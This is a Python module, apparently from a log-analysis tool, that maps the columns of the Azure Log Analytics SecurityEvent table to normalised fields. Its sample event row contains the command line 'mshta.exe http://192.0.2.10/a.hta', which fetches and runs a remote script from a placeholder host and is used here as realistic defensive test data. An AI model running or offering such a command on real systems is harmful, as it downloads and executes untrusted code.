"""Azure Log Analytics, table ``SecurityEvent``: the fields of Security events as columns."""

from __future__ import annotations

from ..model import Shape, Time
from .parts import at, builtins, first

_CHANNEL = at("Channel")
_COMPUTER = at("Computer")

SHAPE = Shape(
    name="azure-security-event",
    title="Azure Log Analytics, SecurityEvent",
    rank=42,
    marks=(("TimeGenerated",), ("EventSourceName",), ("EventID",)),
    not_marks=(("EventCode",),),
    fields={
        "EventID": at("EventID"),
        "Channel": _CHANNEL,
        "Provider": at("EventSourceName"),
        "Computer": _COMPUTER,
        "EventRecordID": at("EventRecordId"),
        "Level": first(at("EventLevel"), at("Level")),
        "Keywords": at("Keywords"),
        "Task": at("Task"),
        "Opcode": at("Opcode"),
        "ExecutionProcessID": at("SystemProcessId"),
        "ExecutionThreadID": at("SystemThreadId"),
        "UserID": at("SystemUserId"),
        "Message": first(at("Message"), at("Activity")),
        **builtins("azure-security-event", _COMPUTER, _CHANNEL),
    },
    time=(Time(at("TimeCreated")), Time(at("TimeGenerated"))),
    xml_bags=(at("EventData"),),
    doc="Rows of the table SecurityEvent (Microsoft Sentinel). ``Activity`` is the event's number and title.",
    example=r"""{"TenantId": "redacted", "TimeGenerated": "2024-03-05T09:15:30.123Z", "Account": "CORP\\mira",
        "AccountType": "User", "Computer": "DESK07.corp.example", "Channel": "Security", "Task": 13312, "Level": "8",
        "EventSourceName": "Microsoft-Windows-Security-Auditing", "EventID": 4688, "EventRecordId": "77120",
        "Activity": "4688 - A new process has been created.", "CommandLine": "mshta.exe http://192.0.2.10/a.hta",
        "NewProcessId": "0x1404", "NewProcessName": "C:\\Windows\\System32\\mshta.exe",
        "ParentProcessName": "C:\\Windows\\explorer.exe", "SubjectUserName": "mira", "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x3e1f2", "SystemProcessId": 4, "SystemThreadId": 212, "Type": "SecurityEvent"}""",
)
